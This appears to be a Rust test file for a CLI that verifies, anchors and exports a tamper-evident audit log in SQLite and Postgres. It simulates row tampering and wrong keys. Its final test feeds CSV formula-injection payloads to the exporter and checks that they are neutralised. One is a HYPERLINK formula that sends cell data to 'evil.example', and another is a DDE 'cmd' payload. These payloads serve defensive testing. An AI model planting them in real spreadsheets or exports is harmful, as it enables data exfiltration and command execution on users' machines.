//! `dingbridge audit verify|anchor|export` as an operator runs it: against a real store file
//! (and Postgres) keyed with an audit key, before and after someone edits a row behind the
//! store's back; with the right key, a wrong one and none; with an anchor taken earlier.

use crate::common::*;
use std::path::{Path, PathBuf};
use std::process::Output;
use store::{AuditEntry, AuditKey, NewAuditEntry, Store};

/// The audit key of these stores, as an operator keeps it in a file.
const KEY: &str = "cli-audit-test-key-0123456789abcdef-0123456789";
const WRONG_KEY: &str = "somebody-elses-audit-key-0123456789abcdef-0123";

fn key() -> AuditKey {
    AuditKey::new(KEY).unwrap()
}

/// `text` in `dir/name` with a trailing newline, as `openssl rand -hex 32 > file` leaves it.
fn key_file(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, format!("{text}\n")).unwrap();
    path
}

/// A store opened with [`KEY`], bound to it as the gateway binds it.
async fn keyed_store(url: &str) -> std::sync::Arc<dyn Store> {
    let store = store::open_with_audit_key(url, Some(key())).await.unwrap();
    store.audit_bind_key().await.unwrap();
    store
}

/// 2026-11-01T09:00:00+08:00 in ms.
const BASE_MS: i64 = 1_793_494_800_000;
/// Rows sharing BASE_MS: more than one page (1000), so the exporter must not loop on them.
const SAME_AT: i64 = 1_200;
const ROWS: i64 = 2_040;
const MINUTE: i64 = 60_000;

/// `dingbridge audit ARGS` as a process (without DINGBRIDGE_AUDIT_KEY).
async fn audit(args: &[&str]) -> Output {
    audit_env(args, None).await
}

/// `dingbridge audit ARGS` with DINGBRIDGE_AUDIT_KEY set to `key`, or removed.
async fn audit_env(args: &[&str], key: Option<&str>) -> Output {
    let mut command = tokio::process::Command::new(exe());
    command.arg("audit").args(args).env("DINGBRIDGE_LOG", "warn");
    match key {
        Some(key) => command.env("DINGBRIDGE_AUDIT_KEY", key),
        None => command.env_remove("DINGBRIDGE_AUDIT_KEY"),
    };
    command.output().await.unwrap()
}

fn text(out: &Output) -> (String, String) {
    (String::from_utf8_lossy(&out.stdout).into_owned(), String::from_utf8_lossy(&out.stderr).into_owned())
}

fn at_of(seq: i64) -> i64 {
    if seq <= SAME_AT {
        BASE_MS
    } else {
        BASE_MS + (seq - SAME_AT) * MINUTE
    }
}

fn detail_of(seq: i64) -> String {
    format!("{{\"after\":\"approved\",\"before\":\"pending\",\"n\":{seq}}}")
}

async fn append_rows(store: &dyn Store, rows: i64) -> Vec<AuditEntry> {
    let mut out = Vec::new();
    for seq in 1..=rows {
        let entry = NewAuditEntry {
            at: at_of(seq),
            actor: if seq % 3 == 0 { "dingbridge".into() } else { format!("manager{:04}", seq % 7) },
            action: "approval.approved".into(),
            subject: format!("netsuite:purchase_request:PR{seq:06}"),
            detail: detail_of(seq),
        };
        out.push(store.audit_append(&entry).await.unwrap());
    }
    out
}

/// Edit one row's detail the way someone with file access would: the bytes in the database
/// file, same length so SQLite still reads the page (the test binary has no SQL client).
fn tamper_sqlite_file(db: &Path, seq: i64) {
    let wal = db.with_extension("db-wal");
    let wal_len = std::fs::metadata(&wal).map(|m| m.len()).unwrap_or(0);
    assert_eq!(wal_len, 0, "rows still in the WAL: the edit below would miss them");
    let mut bytes = std::fs::read(db).unwrap();
    let (from, to) = (detail_of(seq), detail_of(seq).replace("approved", "rejected"));
    let hits: Vec<usize> =
        bytes.windows(from.len()).enumerate().filter(|(_, w)| *w == from.as_bytes()).map(|(i, _)| i).collect();
    assert_eq!(hits.len(), 1, "row {seq}'s detail appears once in the file");
    bytes[hits[0]..hits[0] + to.len()].copy_from_slice(to.as_bytes());
    std::fs::write(db, bytes).unwrap();
}

fn csv_rows(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = reader.records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect();
    (header, rows)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_verify_and_export_sqlite() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("audit.db");
    let url = format!("sqlite://{}", db.display());
    let key_path = key_file(dir.path(), "audit.key", KEY);
    let kf = key_path.to_str().unwrap();
    let chain = {
        let store = keyed_store(&url).await;
        let chain = append_rows(store.as_ref(), ROWS).await;
        // Closing checkpoints the WAL into the database file, where the tampering below edits
        // the rows (the CLI runs in between only read, so they leave the WAL empty).
        store.close().await;
        chain
    };

    // Intact: exit 0, row count and time span in Hong Kong time.
    let out = audit(&["verify", "--store", &url, "--key-file", kf]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "verify: {stdout}{stderr}");
    assert_eq!(
        stdout.trim(),
        format!(
            "audit chain intact: {ROWS} rows (2026-11-01 09:00:00 … 2026-11-01 23:00:00, HKT; keyed, key from \
             --key-file {kf})"
        ),
        "{stderr}"
    );

    // CSV with an RFC 3339 window: [12:00, 18:00) HKT is seqs SAME_AT+180 .. SAME_AT+540.
    let csv_file = dir.path().join("window.csv");
    let out = audit(&[
        "export",
        "--store",
        &url,
        "--key-file",
        kf,
        "--since",
        "2026-11-01T12:00:00+08:00",
        "--until",
        "2026-11-01T10:00:00Z",
        "--format",
        "csv",
        "--output",
        csv_file.to_str().unwrap(),
    ])
    .await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "export csv: {stdout}{stderr}");
    let (header, rows) = csv_rows(&std::fs::read_to_string(&csv_file).unwrap());
    assert_eq!(header, ["seq", "at", "at_hkt", "actor", "action", "subject", "detail", "prev_hash", "hash"]);
    let expected: Vec<&AuditEntry> = chain.iter().filter(|e| (SAME_AT + 180..SAME_AT + 540).contains(&e.seq)).collect();
    assert_eq!(rows.len(), expected.len());
    assert_eq!(rows.len(), 360);
    for (row, e) in rows.iter().zip(&expected) {
        assert_eq!(row[0], e.seq.to_string());
        assert_eq!(row[1].parse::<jiff::Timestamp>().unwrap().as_millisecond(), e.at);
        assert!(row[1].ends_with('Z'), "at is UTC: {}", row[1]);
        assert!(row[2].ends_with("+08:00"), "at_hkt: {}", row[2]);
        assert_eq!(row[2].parse::<jiff::Timestamp>().unwrap().as_millisecond(), e.at);
        assert_eq!((&row[3], &row[4], &row[5], &row[6]), (&e.actor, &e.action, &e.subject, &e.detail));
        assert_eq!((&row[7], &row[8]), (&e.prev_hash, &e.hash));
    }
    assert!(stderr.contains("exported 360 audit rows"), "{stderr}");

    // JSON to stdout from a date (midnight HKT, inclusive): every row, across the 1 200 rows
    // that share one instant (more than a page).
    let out = audit(&["export", "--store", &url, "--key-file", kf, "--since", "2026-11-01", "--format", "json"]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "export json: {stderr}");
    let json: Vec<serde_json::Value> = serde_json::from_str(&stdout).unwrap();
    assert_eq!(json.len() as i64, ROWS);
    for (row, e) in json.iter().zip(&chain) {
        assert_eq!(row["seq"], e.seq);
        assert_eq!(row["detail"], serde_json::from_str::<serde_json::Value>(&e.detail).unwrap());
        assert_eq!(row["hash"], e.hash.as_str());
        assert_eq!(row["subject"], e.subject.as_str());
    }
    // The next day has nothing; `until` before `since` is refused.
    let out = audit(&["export", "--store", &url, "--key-file", kf, "--since", "2026-11-02", "--format", "json"]).await;
    assert!(out.status.success());
    assert_eq!(serde_json::from_slice::<Vec<serde_json::Value>>(&out.stdout).unwrap().len(), 0);
    let out =
        audit(&["export", "--store", &url, "--since", "2026-11-02", "--until", "2026-11-01", "--format", "csv"]).await;
    assert!(!out.status.success());

    // Someone edits row 1500 in the file: verify names it and fails.
    tamper_sqlite_file(&db, 1_500);
    let out = audit(&["verify", "--store", &url, "--key-file", kf]).await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "verify after tampering: {stdout}{stderr}");
    assert!(stdout.contains("audit chain BROKEN at row 1500:"), "{stdout}");
    assert!(stdout.contains("edited, removed, inserted or reordered"), "{stdout}");

    // Export still hands the rows over (the edited one as it now reads), warns and exits 1.
    let out = audit(&[
        "export",
        "--store",
        &url,
        "--key-file",
        kf,
        "--since",
        "2026-11-01T09:00:00+08:00",
        "--format",
        "csv",
    ])
    .await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("warning: audit chain BROKEN at row 1500"), "{stderr}");
    let (_, rows) = csv_rows(&stdout);
    assert_eq!(rows.len() as i64, ROWS);
    assert!(rows[1_499][6].contains("rejected"), "{:?}", rows[1_499]);
}

/// The same verify against Postgres, tampered with through `psql`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_verify_postgres() {
    let schema = unique("audit_cli");
    let Some(url) = postgres_url(&schema).await else { return };
    let base = url.split_once(['?', '&']).map(|(b, _)| b).unwrap_or(&url).to_owned();
    let has_psql = std::process::Command::new("psql").arg("--version").output().is_ok_and(|o| o.status.success());
    if !has_psql {
        assert_ne!(std::env::var("CI").as_deref(), Ok("true"), "psql is needed to tamper with the Postgres audit log");
        eprintln!("skipping: no psql to tamper with the Postgres audit log");
        return;
    }
    let psql = |sql: String| {
        let out = std::process::Command::new("psql")
            .args([base.as_str(), "-v", "ON_ERROR_STOP=1", "-q", "-c", &sql])
            .output()
            .unwrap();
        assert!(out.status.success(), "psql {sql}: {}", String::from_utf8_lossy(&out.stderr));
    };
    {
        let store = keyed_store(&url).await;
        append_rows(store.as_ref(), 5).await;
        store.close().await;
    }
    // The key from the environment, as with `--store` alone.
    let out = audit_env(&["verify", "--store", &url], Some(KEY)).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(
        stdout.starts_with(
            "audit chain intact: 5 rows (2026-11-01 09:00:00 … 2026-11-01 09:00:00, HKT; keyed, key from \
             DINGBRIDGE_AUDIT_KEY)"
        ),
        "{stdout}"
    );
    let out = audit_env(&["anchor", "--store", &url], None).await;
    assert!(out.status.success(), "{}", text(&out).1);
    let anchor = text(&out).0.trim().to_owned();

    // Rows removed from the end and the head moved back: the chain alone verifies, the anchor
    // taken before does not.
    psql(format!(
        "DELETE FROM {schema}.audit_log WHERE seq > 3; UPDATE {schema}.audit_head SET seq = 3, \
         hash = (SELECT hash FROM {schema}.audit_log WHERE seq = 3) WHERE id = 1"
    ));
    let out = audit_env(&["verify", "--store", &url], Some(KEY)).await;
    assert!(out.status.success(), "{:?}", text(&out));
    let out = audit_env(&["verify", "--store", &url, "--anchor", &anchor], Some(KEY)).await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    assert!(stdout.contains("anchor LOST: the chain ends at row 3, before the anchored row 5"), "{stdout}");

    psql(format!("UPDATE {schema}.audit_log SET detail = replace(detail, 'approved', 'rejected') WHERE seq = 3"));
    let out = audit_env(&["verify", "--store", &url], Some(KEY)).await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    assert!(stdout.contains("audit chain BROKEN at row 3:"), "{stdout}");
    psql(format!("DROP SCHEMA {schema} CASCADE"));
}

/// `verify` needs the key of a keyed chain and tells a wrong key from tampering; it takes the key
/// from `--key-file`, from `-c CONFIG`'s `[audit] key` or from DINGBRIDGE_AUDIT_KEY. An unkeyed
/// chain verifies without a key, and says it is not keyed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_verify_needs_the_right_key() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("keyed.db");
    let url = format!("sqlite://{}", db.display());
    {
        let store = keyed_store(&url).await;
        append_rows(store.as_ref(), 4).await;
        store.close().await;
    }
    let right = key_file(dir.path(), "right.key", KEY);
    let wrong = key_file(dir.path(), "wrong.key", WRONG_KEY);
    let short = key_file(dir.path(), "short.key", "0123456789");

    // No key: a clear error, not a verdict.
    let out = audit(&["verify", "--store", &url]).await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    assert!(stdout.is_empty(), "{stdout}");
    assert!(
        stderr.contains(&format!("the audit chain is keyed (key {}); verifying it needs the audit key", key().id())),
        "{stderr}"
    );
    assert!(stderr.contains("--key-file PATH"), "{stderr}");

    // A wrong key: "wrong audit key", never "tampered at row 1".
    let out = audit(&["verify", "--store", &url, "--key-file", wrong.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    let wrong_id = AuditKey::new(WRONG_KEY).unwrap();
    assert!(
        stdout.starts_with(&format!(
            "wrong audit key: the chain is written with key {}, the key given is {}",
            key().id(),
            wrong_id.id()
        )),
        "{stdout}"
    );
    assert!(!stdout.contains("BROKEN"), "{stdout}");
    let out = audit_env(&["verify", "--store", &url], Some(WRONG_KEY)).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out).0.starts_with("wrong audit key"), "{:?}", text(&out));

    // A key too short to be one.
    let out = audit(&["verify", "--store", &url, "--key-file", short.to_str().unwrap()]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out).1.contains("the audit key is 10 bytes long; it must be at least 32"), "{:?}", text(&out));

    // The right key, three ways.
    let out = audit(&["verify", "--store", &url, "--key-file", right.to_str().unwrap()]).await;
    assert!(out.status.success(), "{:?}", text(&out));
    let out = audit_env(&["verify", "--store", &url], Some(KEY)).await;
    assert!(out.status.success(), "{:?}", text(&out));
    let config = dir.path().join("gateway.toml");
    std::fs::write(
        &config,
        format!("[store]\nurl = \"{url}\"\n\n[audit]\nkey = {{ file = \"{}\" }}\n", right.display()),
    )
    .unwrap();
    let out = audit(&["verify", "-c", config.to_str().unwrap()]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(stdout.contains(&format!("keyed, key from [audit] key of {}", config.display())), "{stdout}");
    // A config whose key variable is not set: `anchor` needs no key, `verify` says what is missing.
    let unset = dir.path().join("unset.toml");
    std::fs::write(
        &unset,
        format!("[store]\nurl = \"{url}\"\n\n[audit]\nkey = {{ env = \"DINGBRIDGE_AUDIT_KEY\" }}\n"),
    )
    .unwrap();
    let out = audit(&["anchor", "-c", unset.to_str().unwrap()]).await;
    assert!(out.status.success(), "{:?}", text(&out));
    assert!(text(&out).0.starts_with("dingbridge-audit-anchor v1 seq=4 "), "{:?}", text(&out));
    let out = audit(&["verify", "-c", unset.to_str().unwrap()]).await;
    assert_eq!(out.status.code(), Some(1));
    let (_, stderr) = text(&out);
    assert!(stderr.contains("DB0109") && stderr.contains("DINGBRIDGE_AUDIT_KEY"), "{stderr}");
    // `--key-file` wins over the config's key.
    let out = audit(&["verify", "-c", config.to_str().unwrap(), "--key-file", wrong.to_str().unwrap()]).await;
    assert!(text(&out).0.starts_with("wrong audit key"), "{:?}", text(&out));

    // An unkeyed chain (a gateway without `[audit] key`): verifies without a key, says so; a
    // key given for it is a wrong key.
    let plain = format!("sqlite://{}", dir.path().join("plain.db").display());
    {
        let store = store::open(&plain).await.unwrap();
        append_rows(store.as_ref(), 2).await;
        store.close().await;
    }
    let out = audit(&["verify", "--store", &plain]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(stdout.starts_with("audit chain intact: 2 rows") && stdout.contains("NOT keyed"), "{stdout}");
    let out = audit(&["verify", "--store", &plain, "--key-file", right.to_str().unwrap()]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out).0.starts_with("wrong audit key: the chain is not keyed"), "{:?}", text(&out));
}

/// `audit anchor` prints the head as one line; `verify --anchor` holds while rows are added and
/// fails on an older copy of the store (the last rows gone), which the chain alone accepts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_anchor_catches_an_older_copy_of_the_store() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("live.db");
    let url = format!("sqlite://{}", db.display());
    let older = dir.path().join("older.db");
    let older_url = format!("sqlite://{}", older.display());
    let kf = key_file(dir.path(), "audit.key", KEY);
    let kf = kf.to_str().unwrap();
    let chain = {
        // The older copy: the same first five rows (same contents, same key, so the same hashes)
        // and nothing after them, as a backup taken then would be.
        let copy = keyed_store(&older_url).await;
        let first = append_rows(copy.as_ref(), 5).await;
        copy.close().await;
        let store = keyed_store(&url).await;
        let mut chain = append_rows(store.as_ref(), 5).await;
        assert_eq!(first, chain);
        for seq in 6..=8 {
            let entry = NewAuditEntry {
                at: at_of(seq),
                actor: "pay0002".into(),
                action: "approval.decided".into(),
                subject: format!("netsuite:purchase_request:PR{seq:06}"),
                detail: detail_of(seq),
            };
            chain.push(store.audit_append(&entry).await.unwrap());
        }
        store.close().await;
        chain
    };
    // No key needed to take an anchor.
    let out = audit(&["anchor", "--store", &url]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    let last = &chain[7];
    let at = jiff::Timestamp::from_millisecond(last.at).unwrap();
    let anchor = stdout.trim().to_owned();
    assert_eq!(anchor, format!("dingbridge-audit-anchor v1 seq=8 at={at} hash={} key={}", last.hash, key().id()));
    assert_eq!(stdout.lines().count(), 1, "only the anchor on stdout: {stdout}");
    assert!(stderr.contains("audit verify --anchor"), "{stderr}");

    let out = audit(&["verify", "--store", &url, "--key-file", kf, "--anchor", &anchor]).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stdout}{stderr}");
    assert!(stdout.contains("anchor held: the chain still holds row 8 as anchored"), "{stdout}");

    // The older copy is a valid chain of 5 rows; only the anchor shows rows 6–8 are gone.
    let out = audit(&["verify", "--store", &older_url, "--key-file", kf]).await;
    assert!(out.status.success(), "{:?}", text(&out));
    let out = audit(&["verify", "--store", &older_url, "--key-file", kf, "--anchor", &anchor]).await;
    let (stdout, stderr) = text(&out);
    assert_eq!(out.status.code(), Some(1), "{stdout}{stderr}");
    assert!(stdout.contains("anchor LOST: the chain ends at row 5, before the anchored row 8"), "{stdout}");

    // An anchor of the older copy's head holds on the live store too (rows were only added).
    let out = audit(&["anchor", "--store", &older_url]).await;
    let earlier = text(&out).0.trim().to_owned();
    let out = audit(&["verify", "--store", &url, "--key-file", kf, "--anchor", &earlier]).await;
    assert!(out.status.success(), "{:?}", text(&out));
    // A mangled anchor is refused before anything is read.
    let out = audit(&["verify", "--store", &url, "--key-file", kf, "--anchor", "seq=8"]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out).1.contains("expected the line `dingbridge audit anchor` printed"), "{:?}", text(&out));
}

/// CSV cells a spreadsheet would run as formulas start with `'`; JSON keeps the values as they are.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_export_csv_neutralises_formula_prefixes() {
    let dir = tempfile::tempdir().unwrap();
    let url = format!("sqlite://{}", dir.path().join("csv.db").display());
    let hostile = [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "approval.refused", "+8613800000000", "{}"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tPR-1", "\r=1"),
        ("finance0001", "approval.decided", "netsuite:PR-2", "{\"note\":\"=1+1\"}"),
    ];
    {
        let store = keyed_store(&url).await;
        for (i, (actor, action, subject, detail)) in hostile.iter().enumerate() {
            let entry = NewAuditEntry {
                at: BASE_MS + i as i64,
                actor: (*actor).into(),
                action: (*action).into(),
                subject: (*subject).into(),
                detail: (*detail).into(),
            };
            store.audit_append(&entry).await.unwrap();
        }
        store.close().await;
    }
    let args = ["export", "--store", &url, "--since", "2026-11-01", "--format"];
    let out = audit_env(&[&args[..], &["csv"][..]].concat(), Some(KEY)).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    let (_, rows) = csv_rows(&stdout);
    let cells: Vec<[&str; 4]> = rows.iter().map(|r| [&r[3][..], &r[4][..], &r[5][..], &r[6][..]]).collect();
    assert_eq!(
        cells,
        [
            ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "approval.refused", "'+8613800000000", "{}"],
            ["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\tPR-1", "'\r=1"],
            // A formula inside a cell is harmless: only the first character counts.
            ["finance0001", "approval.decided", "netsuite:PR-2", "{\"note\":\"=1+1\"}"],
        ]
    );
    // Hashes and times never start with those characters and stay as they are.
    assert!(rows.iter().all(|r| !r[1].starts_with('\'') && !r[8].starts_with('\'')));

    let out = audit_env(&[&args[..], &["json"][..]].concat(), Some(KEY)).await;
    let (stdout, stderr) = text(&out);
    assert!(out.status.success(), "{stderr}");
    let json: Vec<serde_json::Value> = serde_json::from_str(&stdout).unwrap();
    for (row, (actor, action, subject, _)) in json.iter().zip(&hostile) {
        assert_eq!((row["actor"].as_str(), row["action"].as_str()), (Some(*actor), Some(*action)));
        assert_eq!(row["subject"].as_str(), Some(*subject));
    }
    assert_eq!(json[1]["detail"], "\r=1", "a detail that is not JSON is kept as a string, unprefixed");
}
